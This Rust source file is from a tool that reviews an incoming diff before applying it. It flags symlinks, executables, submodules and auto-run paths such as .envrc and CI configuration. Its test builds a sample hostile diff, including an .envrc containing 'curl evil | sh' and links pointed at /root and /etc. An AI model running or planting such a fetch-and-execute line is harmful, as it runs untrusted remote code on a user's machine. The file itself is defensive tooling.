//! What a diff does beyond editing ordinary files, shown before `ckrv pull` applies it: links,
//! executables, and files that tools load or run on their own (dotfiles such as `.envrc`, git's
//! own files, CI configuration). A job is hostile until its change has been read.
//!
//! Modes are judged on the tree the change results in, not on the patch's own lines: a link or
//! an executable can arrive as a copy or a rename (`copy to`, `rename to`, an `old mode`/`new
//! mode` pair), which a reader of `git apply --summary` misses. The change is applied by git to
//! a private index (and a private object directory, so the repository gains nothing), and every
//! path whose entry differs from the one it had before is judged by its resulting mode.

use std::collections::HashMap;
use std::path::Path;

use anyhow::Context as _;

use crate::git::{self, FileStat};
use crate::output;

/// One thing the person should look at before applying.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Risk {
    pub path: String,
    pub why: String,
}

/// The risks of `diff` in the repository at `top`, one per path with its reasons joined: each
/// path the change leaves a symbolic link, an executable or a submodule commit, and each path
/// it touches (`files`, from `git apply --numstat`) that matters beyond its contents.
pub fn risks(top: &Path, diff: &[u8], files: &[FileStat]) -> anyhow::Result<Vec<Risk>> {
    let mut found: Vec<Risk> = Vec::new();
    let mut note = |path: &str, why: &str| match found.iter_mut().find(|r| r.path == path) {
        Some(risk) => {
            if !risk.why.contains(why) {
                risk.why.push_str("; ");
                risk.why.push_str(why);
            }
        }
        None => found.push(Risk {
            path: path.to_string(),
            why: why.to_string(),
        }),
    };
    let result = Applied::new(top, diff)?;
    for entry in &result.written {
        let why = match (entry.mode.as_str(), entry.before.as_deref()) {
            (LINK, None) => format!("a symbolic link to {}", result.link_target(entry)?),
            (LINK, Some(LINK)) => format!("a symbolic link, now to {}", result.link_target(entry)?),
            (LINK, Some(_)) => format!("becomes a symbolic link to {}", result.link_target(entry)?),
            (EXECUTABLE, None) => "an executable file".to_string(),
            (EXECUTABLE, Some(EXECUTABLE)) => "an executable file, changed".to_string(),
            (EXECUTABLE, Some(_)) => "made executable".to_string(),
            (GITLINK, _) => "a submodule commit (gitlink)".to_string(),
            _ => String::new(),
        };
        if !why.is_empty() {
            note(&entry.path, &why);
        }
        if let Some(why) = sensitive(&entry.path) {
            note(&entry.path, why);
        }
    }
    for file in files {
        if let Some(why) = sensitive(&file.path) {
            note(&file.path, why);
        }
    }
    Ok(found)
}

/// Index modes as git writes them.
const LINK: &str = "120000";
const EXECUTABLE: &str = "100755";
const GITLINK: &str = "160000";

/// A path the change writes: its mode and object after, and its mode before (`None`: new).
struct Written {
    path: String,
    mode: String,
    oid: String,
    before: Option<String>,
}

/// The change applied to a private index: what it wrote, and how to read its objects.
struct Applied {
    written: Vec<Written>,
    top: std::path::PathBuf,
    /// Holds the private index and object directory; removed when dropped.
    scratch: tempfile::TempDir,
    /// The repository's own objects, read through as alternates.
    objects: std::path::PathBuf,
}

impl Applied {
    /// Applies `diff` with `git apply --cached` to a private index holding what it changes as
    /// they were: the job's base, from the blob ids the diff names (git's fake ancestor), or
    /// else `HEAD`. Nothing in the repository or the worktree changes.
    fn new(top: &Path, diff: &[u8]) -> anyhow::Result<Self> {
        let scratch = tempfile::tempdir().context("a scratch directory to review the change")?;
        std::fs::create_dir(scratch.path().join("objects"))
            .context("a scratch directory to review the change")?;
        let objects = git::git(top, &["rev-parse", "--git-path", "objects"], None)?;
        let applied = Self {
            written: Vec::new(),
            top: top.to_path_buf(),
            objects: top.join(objects.trim()),
            scratch,
        };
        let index = applied.scratch.path().join("index");
        let ancestor = format!("--build-fake-ancestor={}", index.display());
        // The index before and after the change, from the base `seed` puts in it.
        let apply = |seed: &[&str], input: Option<&[u8]>, indexed: bool| {
            applied.git(seed, input, indexed)?;
            let before = applied.entries()?;
            applied.git(&["apply", "--cached", "-"], Some(diff), true)?;
            anyhow::Ok((before, applied.entries()?))
        };
        // (The fake ancestor reads the repository's own index for what the diff names no blob
        // of, so it is built without the private one.)
        let result = apply(&["apply", &ancestor, "-"], Some(diff), false)
            .or_else(|_| apply(&["read-tree", "HEAD"], None, true));
        let (before, after) = result.map_err(|e| {
            anyhow::anyhow!(
                "cannot tell what the change makes of its files, so it is not applied (nothing \
                 was changed); fetch its base (`git fetch origin`) and try again\n  git said: {e}"
            )
        })?;
        let written = after
            .into_iter()
            .filter(|(path, entry)| before.get(path) != Some(entry))
            .map(|(path, (mode, oid))| Written {
                before: before.get(&path).map(|(mode, _)| mode.clone()),
                path,
                mode,
                oid,
            })
            .collect();
        Ok(Self { written, ..applied })
    }

    /// Git on the private objects (the repository's read through) and, if `indexed`, the
    /// private index.
    fn git(&self, args: &[&str], input: Option<&[u8]>, indexed: bool) -> anyhow::Result<String> {
        let objects = self.scratch.path().join("objects");
        let index = self.scratch.path().join("index");
        let mut env = vec![
            ("GIT_OBJECT_DIRECTORY", objects.as_path()),
            ("GIT_ALTERNATE_OBJECT_DIRECTORIES", self.objects.as_path()),
        ];
        if indexed {
            env.push(("GIT_INDEX_FILE", index.as_path()));
        }
        git::git_with_env(&self.top, args, input, &env)
    }

    /// The private index's entries, by path: mode and object id.
    fn entries(&self) -> anyhow::Result<HashMap<String, (String, String)>> {
        let listing = self.git(&["ls-files", "-s", "-z"], None, true)?;
        Ok(listing
            .split('\0')
            .filter_map(|record| {
                let (meta, path) = record.split_once('\t')?;
                let mut meta = meta.split(' ');
                let (mode, oid) = (meta.next()?, meta.next()?);
                Some((path.to_string(), (mode.to_string(), oid.to_string())))
            })
            .collect())
    }

    /// Where the link `entry` points, shown safely and not too long.
    fn link_target(&self, entry: &Written) -> anyhow::Result<String> {
        let target = self.git(&["cat-file", "blob", &entry.oid], None, false)?;
        let shown: String = target.chars().take(200).collect();
        let more = if shown.len() < target.len() {
            "…"
        } else {
            ""
        };
        Ok(format!(
            "{}{more}",
            output::printable(&shown.replace('\n', "\\n"))
        ))
    }
}

/// Why a path matters beyond its contents, if it does.
fn sensitive(path: &str) -> Option<&'static str> {
    let components: Vec<&str> = path.split('/').collect();
    let name = components.last().copied().unwrap_or(path);
    if components.first() == Some(&".github") {
        return Some("GitHub workflows and repository settings");
    }
    if components.contains(&".git") || name.starts_with(".git") {
        return Some("git's own configuration (attributes, submodules, hooks)");
    }
    match name {
        ".envrc" => return Some("direnv runs it when you enter the directory"),
        ".gitlab-ci.yml"
        | ".travis.yml"
        | "Jenkinsfile"
        | "azure-pipelines.yml"
        | "bitbucket-pipelines.yml"
        | ".drone.yml" => return Some("CI configuration"),
        _ => {}
    }
    if components
        .first()
        .is_some_and(|c| matches!(*c, ".circleci" | ".buildkite"))
    {
        return Some("CI configuration");
    }
    if components
        .first()
        .is_some_and(|c| matches!(*c, ".vscode" | ".idea" | ".devcontainer"))
    {
        return Some("editor and container settings that can run tasks");
    }
    components
        .iter()
        .any(|c| c.starts_with('.') && *c != "." && *c != "..")
        .then_some("a dotfile or dot-directory, which tools load on their own")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn git(dir: &Path, args: &[&str]) {
        let out = std::process::Command::new("git")
            .current_dir(dir)
            .args(["-c", "user.name=Test", "-c", "user.email=test@example.com"])
            .args(args)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    /// How many files are under `dir`.
    fn walk_count(dir: &Path) -> usize {
        std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .map(|p| if p.is_dir() { walk_count(&p) } else { 1 })
            .sum()
    }

    fn stat(path: &str) -> FileStat {
        FileStat {
            path: path.into(),
            insertions: 1,
            deletions: 0,
            binary: false,
        }
    }

    #[test]
    fn links_executables_and_dotfiles_are_named_with_why_however_they_arrive() {
        let repo = tempfile::tempdir().unwrap();
        let top = repo.path();
        git(top, &["init", "-q", "-b", "main"]);
        for name in ["notes.txt", "tool", "plain.txt"] {
            std::fs::write(top.join(name), format!("{name}\n")).unwrap();
        }
        std::os::unix::fs::symlink("docs", top.join("link")).unwrap();
        git(top, &["add", "-A"]);
        git(top, &["commit", "-q", "-m", "base"]);
        let diff = concat!(
            // A rename that makes an executable, a copy that brings a link to a new path.
            "diff --git a/notes.txt b/run.sh\nold mode 100644\nnew mode 100755\n",
            "similarity index 100%\nrename from notes.txt\nrename to run.sh\n",
            "diff --git a/link b/home\nsimilarity index 0%\ncopy from link\ncopy to home\n",
            "--- a/link\n+++ b/home\n@@ -1 +1 @@\n-docs\n\\ No newline at end of file\n",
            "+/root\n\\ No newline at end of file\n",
            // A mode change alone, a link pointed elsewhere, a dotfile, an ordinary rename.
            "diff --git a/tool b/tool\nold mode 100644\nnew mode 100755\n",
            "diff --git a/link b/link\n--- a/link\n+++ b/link\n@@ -1 +1 @@\n-docs\n",
            "\\ No newline at end of file\n+/etc\n\\ No newline at end of file\n",
            "diff --git a/.envrc b/.envrc\nnew file mode 100644\n--- /dev/null\n+++ b/.envrc\n",
            "@@ -0,0 +1 @@\n+curl evil | sh\n",
            "diff --git a/plain.txt b/moved.txt\nsimilarity index 100%\n",
            "rename from plain.txt\nrename to moved.txt\n",
        );
        let files = [
            stat("home"),
            stat("run.sh"),
            stat("tool"),
            stat("link"),
            stat(".envrc"),
            stat("moved.txt"),
        ];
        let objects = || walk_count(&top.join(".git/objects"));
        let objects_before = objects();
        let risks = risks(top, diff.as_bytes(), &files).unwrap();
        let why = |path: &str| {
            risks
                .iter()
                .find(|r| r.path == path)
                .map(|r| r.why.as_str())
        };
        assert_eq!(why("home"), Some("a symbolic link to /root"));
        assert_eq!(why("run.sh"), Some("an executable file"));
        assert_eq!(why("tool"), Some("made executable"));
        assert_eq!(why("link"), Some("a symbolic link, now to /etc"));
        assert!(why(".envrc").unwrap().contains("direnv"));
        assert_eq!(why("moved.txt"), None);
        assert_eq!(risks.len(), 5, "{risks:?}");
        // The review changed nothing: no file, no index entry, no object.
        assert!(!top.join("home").exists() && !top.join("run.sh").exists());
        assert_eq!(objects(), objects_before);
        let status = std::process::Command::new("git")
            .current_dir(top)
            .args(["status", "--porcelain"])
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&status.stdout), "");
    }

    #[test]
    fn sensitive_paths_are_named_with_why() {
        let why = |path: &str| sensitive(path).unwrap_or("");
        assert!(why(".github/workflows/ci.yml").contains("GitHub"));
        assert!(why(".gitattributes").contains("git's own"));
        assert!(why("config/.secret").contains("dotfile"));
        assert_eq!(why("Jenkinsfile"), "CI configuration");
        assert_eq!(sensitive("src/lib.rs"), None);
    }
}
